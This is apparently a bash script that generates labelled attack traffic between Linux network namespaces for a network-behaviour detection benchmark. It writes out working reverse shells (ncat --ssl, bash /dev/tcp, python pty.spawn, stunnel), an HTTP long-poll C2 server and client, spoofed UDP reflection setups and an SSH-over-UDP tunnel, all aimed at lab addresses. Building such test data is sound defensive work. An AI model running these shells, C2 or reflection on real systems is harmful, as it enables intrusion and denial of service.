#!/usr/bin/env bash
# A FIFTH fresh attack set ("f5-*"): techniques the behaviour model was never tuned on — interactive shells in
# other shapes than fresh-quiet's TLS shell (ncat --ssl with a pty on 8443, bash /dev/tcp without a pty on 443,
# python pty.spawn on plain 80, an inbound interactive SSH login, a shell in stunnel on 993), UDP reflection by
# other services (dnsmasq, SSDP, chrony, a legacy ntpd monlist), a UDP tunnel carrying an SSH session, and an HTTP
# long-poll C2, made with real tools between network namespaces. The lab is fresh-lab.sh's (attacker = the device
# 10.66.0.10 02:66:00:00:00:10, victim 10.66.0.20 02:66:00:00:00:20, dummies .31-.34, a routed "internet"
# 10.128.0.0/9 behind the victim), with its own namespaces (prefix f5-) and veth names (f5p-*).
# Internet listeners are addresses on the victim's lo (10.128.91.x); the reflectors' spoofed sources (10.128.92.x)
# are on no host: the device's answers go to its gateway (the victim) and end there.
# tcpdump on the device's veth; OUT/attacks/<id>.pcap and OUT/attacks/index.jsonl (gen-attacks.sh's format).
# Every tool runs under `timeout`, every loop is bounded; namespaces are removed on exit.
#
# Tools (Debian): ncat socat openssh-server openssh-client dnsmasq chrony stunnel4 curl python3 python3-scapy
#   tcpdump wireshark-common bc
# Helpers: spoof-udp.py (scapy: spoofed DNS / SSDP / NTP / monlist requests from the reflection target's address),
#   udp-responder.py (the device's SSDP responder and legacy-ntpd monlist answers).
#
# Usage: bash bench/behavior/fresh5/gen-fresh5.sh [--out DIR (default /work/behavior-bench-fresh5)] [--ids id1,id2]
set -euo pipefail

OUT=/work/behavior-bench-fresh5
HERE="$(cd "$(dirname "$0")" && pwd)"
LAB=f5 GEN=gen-fresh5
# shellcheck source=../fresh-lab.sh
. "$HERE/../fresh-lab.sh" "$@"

# ---------- network ----------
lab_network
sleep 1

# ---------- "internet" hosts: addresses on the victim's lo ----------
# .1 ncat --ssl 8443, .2 plain 443, .3 plain 80, .8 UDP 51820, .9 HTTP long-poll, .10 stunnel 993
internet_hosts 10.128.91.1 10.128.91.2 10.128.91.3 10.128.91.8 10.128.91.9 10.128.91.10
[ -f "$W/tls.key" ] || openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj "/CN=mail.example.test" \
  -keyout "$W/tls.key" -out "$W/tls.crt" >/dev/null 2>&1
export NET VIC_IP ATT_IP W PY

# An operator typing commands a character at a time (fresh-quiet's frq-operator.sh), and one sending whole lines.
cat > "$W/op-typed.sh" <<'EOS'
typ() { local s="$1" i; for ((i = 0; i < ${#s}; i++)); do printf '%s' "${s:i:1}"; sleep 0.0$((RANDOM % 9 + 1)); done; printf '\n'; }
sleep 3
for c in 'id' 'uname -a' 'cat /proc/cpuinfo | head -5' 'ls -la /tmp | head -10' 'ps aux | head -12' 'ip -4 addr' 'exit'; do
  typ "$c"; sleep $((RANDOM % 4 + 4))
done
sleep 2
EOS
cat > "$W/op-lines.sh" <<'EOS'
sleep 3
for c in 'id' 'uname -a' 'cat /etc/passwd | head -8' 'ls -la / | head -12' 'ps aux | head -12' 'ip -4 route' 'exit'; do
  printf '%s\n' "$c"; sleep $((RANDOM % 6 + 5))
done
sleep 2
EOS
SH="env HISTFILE=/dev/null PS1='# ' bash --norc --noprofile -i"

# ---------- 1. ncat --ssl reverse shell with a pty (script) to 8443, typed ----------
if want f5-ncat-ssl-revshell; then
  ns vic timeout 150 bash -c "bash $W/op-typed.sh | ncat --ssl -l 10.128.91.1 8443 >$W/ncat-ssl-listener.out 2>&1" &
  PIDS+=($!)
  sleep 2
  CAP_VIC_IP=10.128.91.1 cap f5-ncat-ssl-revshell c2 ncat-ssl-reverse-shell-pty attacker public false 110 \
    ncat --ssl 10.128.91.1 8443 --sh-exec "script -qc \"$SH\" /dev/null"
fi

# ---------- 2. bash /dev/tcp reverse shell on 443, no pty, whole command lines ----------
if want f5-bash-tcp-revshell-nopty; then
  ns vic timeout 150 bash -c "bash $W/op-lines.sh | ncat -l 10.128.91.2 443 >$W/bash-tcp-listener.out 2>&1" &
  PIDS+=($!)
  sleep 2
  CAP_VIC_IP=10.128.91.2 cap f5-bash-tcp-revshell-nopty c2 bash-dev-tcp-reverse-shell attacker public false 110 \
    bash -c "env HISTFILE=/dev/null bash --norc --noprofile -i >& /dev/tcp/10.128.91.2/443 0>&1"
fi

# ---------- 3. python3 pty.spawn reverse shell on plain 80, typed ----------
if want f5-python-pty-revshell-80; then
  ns vic timeout 150 bash -c "bash $W/op-typed.sh | ncat -l 10.128.91.3 80 >$W/py-pty-listener.out 2>&1" &
  PIDS+=($!)
  sleep 2
  CAP_VIC_IP=10.128.91.3 cap f5-python-pty-revshell-80 c2 python-pty-reverse-shell attacker public false 110 \
    env HISTFILE=/dev/null PS1='$ ' $PY -c 'import os,pty,socket;s=socket.create_connection(("10.128.91.3",80));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(["bash","--norc","--noprofile","-i"])'
fi

# sshd (key login; the shell is forced, with no history) for ids 4 (on the victim) and 8 (on the device)
if wantany f5-ssh-interactive-in f5-wg-like-udp-tunnel; then
  mkdir -p /run/sshd
  [ -f "$W/ssh_host_ed25519" ] || ssh-keygen -q -t ed25519 -N '' -f "$W/ssh_host_ed25519"
  [ -f "$W/id_ed25519" ] || ssh-keygen -q -t ed25519 -N '' -f "$W/id_ed25519"
  cp "$W/id_ed25519.pub" "$W/authorized_keys"
  for L in vic att; do
    cat > "$W/sshd_config.$L" <<EOF
ListenAddress $([ $L = vic ] && echo "$VIC_IP:22" || echo "127.0.0.1:22")
HostKey $W/ssh_host_ed25519
AuthorizedKeysFile $W/authorized_keys
PermitRootLogin prohibit-password
PasswordAuthentication no
KbdInteractiveAuthentication no
UsePAM no
StrictModes no
PrintMotd no
PrintLastLog no
ForceCommand env HISTFILE=/dev/null PS1='cam# ' bash --norc --noprofile -i
PidFile $W/sshd.$L.pid
EOF
  done
  SSHC="-i $W/id_ed25519 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o LogLevel=ERROR"
fi

# ---------- 4. an inbound interactive SSH login (the device is the sshd, an internet address logs in and types) ----------
if want f5-ssh-interactive-in; then
  ip netns exec f5-vic timeout 150 /usr/sbin/sshd -D -e -f "$W/sshd_config.vic" >"$W/sshd-vic.log" 2>&1 &
  PIDS+=($!)
  SSHD_VIC=$!
  sleep 1
  cap f5-ssh-interactive-in c2 openssh-interactive-login victim public false 110 \
    bash -c "bash $W/op-typed.sh | timeout 100 ssh -tt $SSHC root@$VIC_IP"
  stopbg "$SSHD_VIC"
fi

# Captures ID while the reflection target TARGET (an address on no host) sends COUNT spoofed KIND requests,
# one every INTERVAL s, to the device's service, started in the background as SERVICE_PID; then stops it.
reflect_cap() { # ID TOOL KIND TARGET COUNT INTERVAL SERVICE_PID
  CAP_VIC_IP=$4 cap "$1" dos "$2" attacker public false 90 \
    ip netns exec f5-vic $PY "$HERE/spoof-udp.py" "$3" "$4" "$ATT_IP" "$5" "$6"
  stopbg "$7"
}

# ---------- 5. DNS reflection: the device's dnsmasq answers spoofed TXT / ANY queries with large TXT records ----------
if want f5-dns-reflector; then
  T1=$(head -c 180 /dev/urandom | base64 -w0 | tr -d '/+=')
  T2=$(head -c 180 /dev/urandom | base64 -w0 | tr -d '/+=')
  T3=$(head -c 180 /dev/urandom | base64 -w0 | tr -d '/+=')
  ip netns exec f5-att timeout 300 dnsmasq -k --no-resolv --no-hosts --bind-interfaces --interface=eth0 --except-interface=lo \
    --port=53 --user=root --pid-file="$W/dnsmasq.pid" --edns-packet-max=4096 \
    --txt-record=cam.example,"v=spf1 $T1","$T2","$T3" --txt-record=cam.example,"k=rsa; p=$T2$T1" \
    --txt-record=fw.cam.example,"$T3$T2$T1" --host-record=cam.example,$ATT_IP --mx-host=cam.example,mx.cam.example,10 \
    2>"$W/dnsmasq.log" &
  PIDS+=($!)
  DNSMASQ_PID=$!
  sleep 2
  reflect_cap f5-dns-reflector dnsmasq+spoofed-txt-any dns 10.128.92.5 60 1 "$DNSMASQ_PID"
fi

# ---------- 6. SSDP reflection: the device's SSDP responder answers spoofed unicast M-SEARCH ----------
if want f5-ssdp-reflector; then
  ip netns exec f5-att timeout 300 $PY "$HERE/udp-responder.py" ssdp "$ATT_IP" >"$W/ssdp.log" 2>&1 &
  PIDS+=($!)
  SSDP_PID=$!
  sleep 1
  reflect_cap f5-ssdp-reflector ssdp-responder+spoofed-msearch ssdp 10.128.92.6 60 1 "$SSDP_PID"
fi

# ---------- 7. NTP reflection: the device's chronyd (a local-stratum server) answers spoofed client requests ----------
if want f5-ntp-reflector; then
  mkdir -p "$W/chrony"
  cat > "$W/chrony.conf" <<EOF
local stratum 8
allow all
bindaddress $ATT_IP
port 123
cmdport 0
driftfile $W/chrony/drift
pidfile $W/chrony/chronyd.pid
EOF
  ip netns exec f5-att timeout 300 chronyd -d -x -U -f "$W/chrony.conf" >"$W/chronyd.log" 2>&1 &
  PIDS+=($!)
  CHRONY_PID=$!
  sleep 2
  reflect_cap f5-ntp-reflector chronyd+spoofed-client-requests ntp 10.128.92.7 60 1 "$CHRONY_PID"
fi

# ---------- 8. a UDP tunnel on 51820: the device dials out over UDP and carries its own sshd to an operator ----------
if want f5-wg-like-udp-tunnel; then
  ip netns exec f5-att timeout 150 /usr/sbin/sshd -D -e -f "$W/sshd_config.att" >"$W/sshd-att.log" 2>&1 &
  PIDS+=($!)
  SSHD_ATT=$!
  # the operator's end: the tunnel's UDP port, relayed to a local TCP port the operator's ssh uses
  ns vic timeout 150 socat UDP-LISTEN:51820,bind=10.128.91.8 TCP-LISTEN:2222,bind=127.0.0.1,reuseaddr >"$W/udp-tun-vic.log" 2>&1 &
  PIDS+=($!)
  sleep 1
  cat > "$W/udp-tunnel.sh" <<EOS
timeout 100 socat UDP:10.128.91.8:51820 TCP:127.0.0.1:22 &
sleep 3
ip netns exec f5-vic bash -c "bash $W/op-typed.sh | timeout 90 ssh -tt -p 2222 $SSHC root@127.0.0.1"
sleep 2
kill %1 2>/dev/null
wait
EOS
  CAP_VIC_IP=10.128.91.8 cap f5-wg-like-udp-tunnel c2 socat-udp-tunnel-ssh attacker public false 110 bash "$W/udp-tunnel.sh"
  stopbg "$SSHD_ATT"
fi

# ---------- 9. an HTTP long-poll C2: the server holds each poll 20 s, the device posts each task's output ----------
if want f5-http-longpoll-c2; then
  cat > "$W/longpoll.py" <<'EOS'
import http.server, json, sys, time
n = [0]
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def log_message(self, *a): pass
    def reply(self, body):
        self.send_response(200); self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body))); self.end_headers(); self.wfile.write(body)
    def do_GET(self):
        time.sleep(20); n[0] += 1
        self.reply(json.dumps({"task": n[0], "cmd": ["id", "uname -a", "cat /etc/passwd", "ps"][n[0] % 4]}).encode())
    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length", 0))); self.reply(b'{"ok":1}')
http.server.ThreadingHTTPServer((sys.argv[1], 80), H).serve_forever()
EOS
  ns vic timeout 200 $PY "$W/longpoll.py" 10.128.91.9 >"$W/longpoll.log" 2>&1 &
  PIDS+=($!)
  sleep 1
  cat > "$W/longpoll-client.sh" <<'EOS'
U=http://10.128.91.9/api/v2/poll?dev=cam-7f3a
for i in 1 2 3; do
  t=$(timeout 30 curl -s -m 28 -A 'Mozilla/5.0' "$U") || true
  c=$(echo "$t" | sed -n 's/.*"cmd": "\([^"]*\)".*/\1/p')
  timeout 10 bash -c "$c" 2>&1 | head -c 3000 | timeout 10 curl -s -m 8 -o /dev/null -A 'Mozilla/5.0' --data-binary @- "${U/poll/result}&t=$i"
  sleep 8
done
EOS
  CAP_VIC_IP=10.128.91.9 cap f5-http-longpoll-c2 c2 curl-http-long-poll attacker public false 110 bash "$W/longpoll-client.sh"
fi

# ---------- 10. a reverse shell inside stunnel's TLS to 993 (IMAPS), no pty, whole command lines ----------
if want f5-stunnel-revshell-993; then
  mkdir -p "$W/stunnel"
  cat > "$W/stunnel-srv.conf" <<EOF
foreground = yes
pid =
[imaps]
accept = 10.128.91.10:993
connect = 127.0.0.1:1430
cert = $W/tls.crt
key = $W/tls.key
EOF
  cat > "$W/stunnel-cli.conf" <<EOF
foreground = yes
pid =
[imaps]
client = yes
accept = 127.0.0.1:1143
connect = 10.128.91.10:993
EOF
  ns vic timeout 150 bash -c "bash $W/op-lines.sh | ncat -l 127.0.0.1 1430 >$W/stunnel-listener.out 2>&1" &
  PIDS+=($!)
  ns vic timeout 150 stunnel4 "$W/stunnel-srv.conf" >"$W/stunnel-srv.log" 2>&1 &
  PIDS+=($!)
  sleep 1
  cat > "$W/stunnel-shell.sh" <<EOS
timeout 100 stunnel4 "$W/stunnel-cli.conf" >"$W/stunnel-cli.log" 2>&1 &
sleep 2
timeout 95 ncat 127.0.0.1 1143 --sh-exec "$SH"
kill %1 2>/dev/null
wait
EOS
  CAP_VIC_IP=10.128.91.10 cap f5-stunnel-revshell-993 c2 stunnel-reverse-shell-993 attacker public false 110 bash "$W/stunnel-shell.sh"
fi

# ---------- 11. legacy ntpd monlist reflection: 8 × 440-byte answers to each spoofed mode-7 request ----------
if want f5-ntp-monlist-reflector; then
  ip netns exec f5-att timeout 300 $PY "$HERE/udp-responder.py" monlist "$ATT_IP" >"$W/monlist.log" 2>&1 &
  PIDS+=($!)
  MON_PID=$!
  sleep 1
  reflect_cap f5-ntp-monlist-reflector ntpd-monlist+spoofed-mode7 monlist 10.128.92.8 40 1.5 "$MON_PID"
fi

# ---------- index ----------
lab_index
